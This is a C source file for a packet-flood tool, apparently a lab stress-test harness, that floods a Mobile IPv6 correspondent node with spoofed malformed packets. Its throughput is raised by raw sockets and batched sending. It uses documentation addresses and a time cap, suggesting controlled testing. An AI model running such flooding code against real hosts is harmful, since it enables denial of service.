/*
 * flood: one kind of hostile packet, as fast as this machine sends, each from a /64 of its own below 2001:db8:8000::/33.
 *
 *	flood INTERFACE ROUTER-MAC CORRESPONDENT KIND SECONDS [NONCE-INDEX]
 *
 * Kinds: home-test-init, care-of-test-init; binding-update (wrong authenticator, both nonces NONCE-INDEX, which should be known);
 * unknown-nonces (the same with nonces that are not known); unknown-message; home-address (option without binding before UDP);
 * mobility-fragment, fragment (first fragments of a mobility message, and of UDP, whose rest never comes). Prints how many were sent.
 *
 * Ends after SECONDS, which are at most 600, or on SIGTERM. Checksums stay right while sources change: a word of the interface identifier
 * makes up for it.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ether.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#define BATCH 64
#define FRAME_MAX 256
#define SECONDS_MAX 600

#define IPV6_BYTES 40
#define SOURCE 8
#define DESTINATION 24
#define OPTION_HEADER_BYTES 24
#define FRAGMENT_HEADER_BYTES 8

#define UDP 17
#define FRAGMENT 44
#define NONE 59
#define DESTINATION_OPTIONS 60
#define MOBILITY 135

#define HOME_TEST_INIT 1
#define CARE_OF_TEST_INIT 2
#define BINDING_UPDATE 5
#define UNKNOWN_MESSAGE 99

#define PREFIX "2001:db8:8000::1"
#define HOME_ADDRESS "2001:db8:8000:7::7"
/* Words of the source address that change, and the one that makes up for them in the checksum. */
#define FIRST_WORD 2
#define LAST_WORD 3
#define BALANCE_WORD 4

static volatile sig_atomic_t terminated;

struct packet {
	uint8_t bytes[FRAME_MAX - ETH_HLEN];
	size_t length;
	int sum_has_source;		/* the checksum is over the packet's source */
};

static int fail(const char *what)
{
	fprintf(stderr, "flood: %s: %s\n", what, strerror(errno));
	exit(EXIT_FAILURE);
}

static void put16(uint8_t *at, unsigned int value)
{
	at[0] = (uint8_t)(value >> 8);
	at[1] = (uint8_t)value;
}

static unsigned int get16(const uint8_t *at)
{
	return (unsigned int)at[0] << 8 | at[1];
}

static uint32_t sum(uint32_t so_far, const uint8_t *bytes, size_t length)
{
	for (size_t i = 0; i < length; i += 2)
		so_far += get16(bytes + i);
	return so_far;
}

static unsigned int fold(uint32_t value)
{
	while (value >> 16)
		value = (value & 0xffff) + (value >> 16);
	return value;
}

/* Appends an upper-layer message whose checksum is at offset checksum, with source as pseudo-header. */
static void append(struct packet *packet, int protocol, const uint8_t *message, size_t length, size_t checksum, const uint8_t *source)
{
	uint8_t *at = packet->bytes + packet->length;
	uint32_t total = (uint32_t)length + (uint32_t)protocol;

	memcpy(at, message, length);
	total = sum(total, source, sizeof(struct in6_addr));
	total = sum(total, packet->bytes + DESTINATION, sizeof(struct in6_addr));
	put16(at + checksum, ~fold(sum(total, message, length)) & 0xffff);
	packet->length += length;
}

static void append_mobility(struct packet *packet, int type, const uint8_t *body, size_t length, const uint8_t *source)
{
	uint8_t message[FRAME_MAX] = { NONE, (uint8_t)((6 + length) / 8 - 1), (uint8_t)type };

	memcpy(message + 6, body, length);
	append(packet, MOBILITY, message, 6 + length, 4, source);
}

/* A destination options header with the Home Address option, RFC 6275 section 6.3. */
static const uint8_t *append_home_address(struct packet *packet, int next)
{
	uint8_t *at = packet->bytes + packet->length;

	packet->bytes[6] = DESTINATION_OPTIONS;
	memcpy(at, (uint8_t[]){ (uint8_t)next, 2, 1, 2, 0, 0, 0xc9, 16 }, 8);
	inet_pton(AF_INET6, HOME_ADDRESS, at + 8);
	packet->length += OPTION_HEADER_BYTES;
	return at + 8;
}

static void append_fragment_header(struct packet *packet, int next)
{
	packet->bytes[6] = FRAGMENT;
	memcpy(packet->bytes + packet->length, (uint8_t[]){ (uint8_t)next, 0, 0, 1, 0, 0, 0, 0 }, FRAGMENT_HEADER_BYTES);
	packet->length += FRAGMENT_HEADER_BYTES;
}

/* Sequence 1, A, lifetime 60 units; nonce indices; authorization data of nobody (section 6.1.7). */
static void append_binding_update(struct packet *packet, unsigned int nonce_index)
{
	const uint8_t *home_address = append_home_address(packet, MOBILITY);
	uint8_t body[26] = { 0, 1, 0x80, 0, 0, 60, 4, 4 };

	put16(body + 8, nonce_index);
	put16(body + 10, nonce_index);
	body[12] = 5;
	body[13] = 12;
	append_mobility(packet, BINDING_UPDATE, body, sizeof(body), home_address);
}

static void append_udp(struct packet *packet, const uint8_t *source)
{
	uint8_t datagram[16] = { 0x9c, 0x40, 0x1e, 0x61, 0, sizeof(datagram) };

	append(packet, UDP, datagram, sizeof(datagram), 6, source);
}

static int write_packet(struct packet *packet, const char *kind, const char *correspondent, unsigned int nonce_index)
{
	uint8_t init[10] = { 0, 0, 1, 2, 3, 4, 5, 6, 7, 8 };
	uint8_t *source = packet->bytes + SOURCE;

	packet->bytes[0] = 0x60;
	packet->bytes[6] = MOBILITY;
	packet->bytes[7] = 64;
	packet->length = IPV6_BYTES;
	packet->sum_has_source = 1;
	inet_pton(AF_INET6, PREFIX, source);
	if (inet_pton(AF_INET6, correspondent, packet->bytes + DESTINATION) != 1)
		return -1;
	if (!strcmp(kind, "home-test-init")) {
		append_mobility(packet, HOME_TEST_INIT, init, sizeof(init), source);
	} else if (!strcmp(kind, "care-of-test-init")) {
		append_mobility(packet, CARE_OF_TEST_INIT, init, sizeof(init), source);
	} else if (!strcmp(kind, "unknown-message")) {
		append_mobility(packet, UNKNOWN_MESSAGE, init, sizeof(init), source);
	} else if (!strcmp(kind, "binding-update") || !strcmp(kind, "unknown-nonces")) {
		append_binding_update(packet, kind[0] == 'b' ? nonce_index : 0);
		packet->sum_has_source = 0;
	} else if (!strcmp(kind, "home-address")) {
		append_udp(packet, append_home_address(packet, UDP));
		packet->sum_has_source = 0;
	} else if (!strcmp(kind, "mobility-fragment")) {
		append_fragment_header(packet, MOBILITY);
		append_mobility(packet, HOME_TEST_INIT, init, sizeof(init), source);
	} else if (!strcmp(kind, "fragment")) {
		append_fragment_header(packet, UDP);
		append_udp(packet, source);
	} else {
		return -1;
	}
	put16(packet->bytes + 4, (unsigned int)(packet->length - IPV6_BYTES));
	return 0;
}

/* xorshift64*: a source that nobody has seen, fast. */
static uint64_t next_random(void)
{
	static uint64_t state = 6275;

	state ^= state >> 12;
	state ^= state << 25;
	state ^= state >> 27;
	return state * 0x2545f4914f6cdd1dull;
}

static void change_source(uint8_t *packet, const struct packet *template)
{
	const uint8_t *before = template->bytes + SOURCE;
	uint8_t *source = packet + SOURCE;
	uint64_t random = next_random();
	uint32_t balance;

	put16(source + 2 * FIRST_WORD, (unsigned int)(random & 0xffff) | 0x8000);
	put16(source + 2 * LAST_WORD, (unsigned int)(random >> 16) & 0xffff);
	if (!template->sum_has_source)
		return;
	balance = get16(before + 2 * FIRST_WORD) + get16(before + 2 * LAST_WORD) + get16(before + 2 * BALANCE_WORD);
	balance += 0xffff - get16(source + 2 * FIRST_WORD) + 0xffff - get16(source + 2 * LAST_WORD);
	put16(source + 2 * BALANCE_WORD, fold(balance));
}

static int open_socket(const char *interface)
{
	struct sockaddr_ll address = { .sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(interface) };
	int packet_socket = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0), on = 1;

	if (packet_socket < 0 || !address.sll_ifindex || bind(packet_socket, (struct sockaddr *)&address, sizeof(address)))
		fail(interface);
	/* No queue in between: what the interface does not take is not sent. */
	if (setsockopt(packet_socket, SOL_PACKET, PACKET_QDISC_BYPASS, &on, sizeof(on)))
		fail("PACKET_QDISC_BYPASS");
	return packet_socket;
}

static void terminate(int signal_number)
{
	(void)signal_number;
	terminated = 1;
}

static double now(void)
{
	struct timespec time;

	clock_gettime(CLOCK_MONOTONIC, &time);
	return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

int main(int count, char **arguments)
{
	static uint8_t frames[BATCH][FRAME_MAX];
	static struct mmsghdr messages[BATCH];
	static struct iovec parts[BATCH];
	struct packet packet = { .length = 0 };
	struct ether_addr *router = count > 2 ? ether_aton(arguments[2]) : NULL;
	double seconds = count > 5 ? atof(arguments[5]) : 0, end;
	unsigned long long sent = 0;
	int packet_socket;

	if (!router || seconds <= 0 || seconds > SECONDS_MAX ||
	    write_packet(&packet, arguments[4], arguments[3], count > 6 ? (unsigned int)atoi(arguments[6]) : 0)) {
		fprintf(stderr, "usage: flood INTERFACE ROUTER-MAC CORRESPONDENT KIND SECONDS [NONCE-INDEX]\n");
		return 2;
	}
	signal(SIGTERM, terminate);
	packet_socket = open_socket(arguments[1]);
	for (int i = 0; i < BATCH; i++) {
		memcpy(frames[i], router, ETH_ALEN);
		frames[i][ETH_ALEN] = 2;
		put16(frames[i] + 2 * ETH_ALEN, ETHERTYPE_IPV6);
		memcpy(frames[i] + ETH_HLEN, packet.bytes, packet.length);
		parts[i] = (struct iovec){ frames[i], ETH_HLEN + packet.length };
		messages[i].msg_hdr = (struct msghdr){ .msg_iov = &parts[i], .msg_iovlen = 1 };
	}
	for (end = now() + seconds; !terminated && now() < end;) {
		int done;

		for (int i = 0; i < BATCH; i++)
			change_source(frames[i] + ETH_HLEN, &packet);
		done = sendmmsg(packet_socket, messages, BATCH, 0);
		if (done > 0)
			sent += (unsigned long long)done;
		else if (errno != ENOBUFS && errno != EAGAIN && errno != EINTR)
			fail("send");
	}
	printf("%llu\n", sent);
	return 0;
}
